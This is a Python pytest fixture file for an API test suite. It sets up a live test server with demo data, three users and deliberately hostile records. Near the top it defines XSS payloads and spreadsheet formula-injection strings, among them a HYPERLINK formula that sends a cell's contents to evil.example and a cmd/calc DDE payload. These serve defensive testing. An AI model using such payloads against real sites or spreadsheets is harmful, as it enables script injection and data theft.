"""A real server for the API tests: uvicorn on a free loopback port, in a thread, over
a real data directory with the small demo, a few hostile records, and three users.

`world` (server mode, auth on, purpose required) is built once per test run and
shared by a worker's whole session, each worker serving its own copy; tests that
change data make their own names so they do not step on each other.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from contextlib import AbstractContextManager
from dataclasses import dataclass
from pathlib import Path

import httpx
import orjson
import pytest
from fastapi import FastAPI

from tests.conftest import built_once, copy_of_full_demo, entity, write_entities
from tests.http_client import api_client, signed_in
from tests.live_server import LiveServer
from threadline.access import Level, Role
from threadline.api.app import create_app
from threadline.app.workbench import Workbench
from threadline.settings import Settings

PASSWORD = "correct horse battery staple"
PURPOSE = "API tests"
DEMO_DATASETS = ("registry", "procurement", "donations", "leak")
XSS = "<script>alert('xss')</script>"
XSS_IMG = '<img src=x onerror="alert(1)">'
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+41 44 000 00 00",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A2)",
]


@dataclass
class World:
    """The running server and who can use it."""

    url: str
    app: FastAPI
    tokens: dict[str, str]  # ada (admin), bob and cat (investigators)
    xss_id: str

    def client(
        self, user: str | None = None, purpose: str | None = PURPOSE, **headers: str
    ) -> httpx.Client:
        """A client of /api/v1, with a user's token and a purpose unless told otherwise."""
        token = self.tokens[user] if user is not None else None
        return api_client(self.url, token, purpose, **headers)

    def browser(self, user: str) -> AbstractContextManager[tuple[httpx.Client, str]]:
        """A client of /api/v1 signed in with a session cookie, and its CSRF token."""
        return signed_in(f"{self.url}/api/v1", user, PASSWORD)


def populate(data_dir: Path, sources: Path) -> tuple[dict[str, str], str]:
    """The resolved demo, a tip-off with script tags, a register with formulas, and
    three users with passwords: ada (admin), bob (writes) and cat (reads)."""
    sources.mkdir()
    tips = write_entities(
        sources / "tips.ijson",
        [entity("tip-1", "Person", name=f"{XSS} Mallory", notes=XSS_IMG, country="de")],
    )
    formulas = write_entities(
        sources / "formulas.ijson",
        [entity(f"f-{n}", "Company", name=v, notes=v) for n, v in enumerate(FORMULAS)],
    )
    tokens: dict[str, str] = {}
    with Workbench(data_dir=data_dir) as bench:
        bench.demo(scale=0.02)
        bench.ingest([tips], "tips")
        bench.ingest([formulas], "formulas")
        bench.resolve()  # a review queue, and a match model to explain pairs with
        access = bench.accountability.access
        for name, role in (
            ("ada", Role.ADMIN),
            ("bob", Role.INVESTIGATOR),
            ("cat", Role.INVESTIGATOR),
        ):
            tokens[name] = bench.user_add(name, role).token
            access.set_password(name, PASSWORD)
        for dataset in (*DEMO_DATASETS, "tips", "formulas"):
            bench.grant("bob", dataset, Level.WRITE)
            bench.grant("cat", dataset, Level.READ)
            bench.grant("ada", dataset, Level.MANAGE)
    return tokens, "tip-1"


def _build(data_dir: Path) -> None:
    """The world's data directory, with its users' tokens and the hostile record's id
    in `world.json` beside it."""
    sources = data_dir.parent / "sources"
    shutil.rmtree(sources, ignore_errors=True)  # a build that failed half-way
    tokens, xss_id = populate(data_dir, sources)
    saved = {"tokens": tokens, "xss_id": xss_id}
    (data_dir.parent / "world.json").write_bytes(orjson.dumps(saved))


@pytest.fixture(scope="session")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    """The world built once per test run; each worker serves its own copy."""
    template = built_once(tmp_path_factory, "api-world", _build)
    saved = orjson.loads((template.parent / "world.json").read_bytes())
    tokens, xss_id = saved["tokens"], saved["xss_id"]
    data_dir = copy_of_full_demo(template, tmp_path_factory.mktemp("api") / "data")
    app = create_app(Settings(data_dir=data_dir))
    with LiveServer(app) as live:
        yield World(live.url, app, tokens, xss_id)


@pytest.fixture(scope="session")
def local_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[LiveServer]:
    """The single-user laptop mode over an empty data directory."""
    app = create_app(Settings(data_dir=tmp_path_factory.mktemp("local")), local=True)
    with LiveServer(app) as live:
        yield live
